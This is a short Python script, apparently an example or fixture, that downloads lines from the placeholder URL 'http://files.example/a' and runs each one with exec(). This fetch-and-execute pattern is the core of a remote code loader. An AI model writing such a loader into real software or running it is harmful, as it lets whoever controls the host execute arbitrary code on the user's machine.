import urllib.request


def parts():
    with urllib.request.urlopen("http://files.example/a") as answer:
        for line in answer:
            yield line


for part in parts():
    exec(part)
